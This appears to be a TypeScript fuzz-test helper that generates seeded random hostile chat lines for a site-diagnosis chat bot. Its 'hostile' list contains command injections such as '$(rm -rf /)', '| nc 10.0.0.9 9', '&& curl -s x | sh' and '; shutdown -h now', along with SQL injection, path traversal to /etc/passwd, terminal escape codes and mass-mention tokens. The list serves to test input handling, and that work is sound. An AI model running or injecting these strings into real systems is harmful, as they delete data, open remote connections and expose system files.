/** A seeded generator of hostile chat lines for the fuzz test: the same seed, the same lines. */

/** A seeded generator (mulberry32): the same seed, the same lines. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const verbs = [
  '',
  'diagnose ',
  'triage ',
  'check ',
  'run ',
  'history ',
  'audit ',
  'status',
  'help',
  'sites',
  'playbooks',
];
const schedule = [
  'schedule add ',
  'schedule list',
  'schedule pause ',
  'schedule resume ',
  'schedule remove ',
  'schedule run ',
];
const sites = [
  'shop',
  'shop.example.com',
  'www.shop.example.com',
  'SHOP',
  'api',
  'api.example.com',
  'blog',
  'blog.example.org',
  'https://shop.example.com/cart?x=1',
  '<https://api.example.com/|api>',
  'unknown.example.org',
  'sho',
];
const symptoms = [
  '502 on ',
  ' is down',
  'bad gateway at ',
  'gateway timeout on ',
  ' 503 error',
  ' not loading',
];
export const hostile = [
  '$(rm -rf /)',
  '`id`',
  '; shutdown -h now',
  '| nc 10.0.0.9 9',
  '&& curl -s x | sh',
  "'; DROP TABLE reports; --",
  '\n',
  '\r\n',
  '\u0000',
  '\u001b]0;pwned\u0007',
  '\u001b[2J',
  '\u009b31m',
  '\u202e',
  '\u0085',
  '\t',
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!subteam^S123|@oncall>',
  '<@U1>',
  '<@W123|bob>',
  '<#C1|general>',
  '<http://evil.example/|click me>',
  '<mailto:a@b.c|mail>',
  '*bold*',
  '_it_',
  '~strike~',
  '```fence```',
  '`tick`',
  '&amp;',
  '&lt;!channel&gt;',
  '💥',
  'ünïcödé',
  '中文',
  '../../etc/passwd',
  '%00',
  '$\x7bIFS}',
  '$HOME',
  '\\',
  'with 502-triage',
  'with health',
  'with disk',
  'with $(id)',
  'using `x`',
  'with nosuch',
  'tz=Europe/Berlin',
  'tz=$(id)',
  'TZ=Mars/Olympus',
  'remind=5',
  'remind=-1',
  'remind=0',
  '#C0123ABCD',
  '#general',
  '"*/5 * * * *"',
  '"0 0 30 2 *"',
  '"* * * * * *"',
  '"$(id) * * * *"',
  '"*/2 * * * *"',
  'shop-502-triage-9f1d7d',
  '502-triage',
  'health',
  'disk',
];

/** One hostile chat line: verbs, sites, symptoms and hostile fragments, glued in random ways. */
export function hostileLine(next: () => number): string {
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)] as T;
  const parts: string[] = [];
  // Now and then a well-formed command with a hostile tail: the deeper paths get their share.
  const wellFormed = [
    'status',
    'sites',
    'schedule list',
    `schedule add "*/5 * * * *" ${pick(['502-triage', 'health', 'disk'])} ${pick(sites)} `,
    `diagnose ${pick(sites)} with ${pick(['502-triage', 'health', 'disk'])} `,
  ];
  if (next() < 0.1) return `${pick(wellFormed)}${next() < 0.5 ? pick(hostile) : ''}`;
  const r = next();
  if (r < 0.5) parts.push(pick(verbs));
  else if (r < 0.7) parts.push(pick(schedule));
  for (let i = 0, n = 1 + Math.floor(next() * 6); i < n; i++) {
    const k = next();
    if (k < 0.35) parts.push(pick(sites));
    else if (k < 0.5) parts.push(pick(symptoms));
    else parts.push(pick(hostile));
    parts.push(pick([' ', ' ', '', '\n', '\t']));
  }
  if (next() < 0.01) parts.push('A'.repeat(50_000 + Math.floor(next() * 150_000)));
  return parts.join('');
}
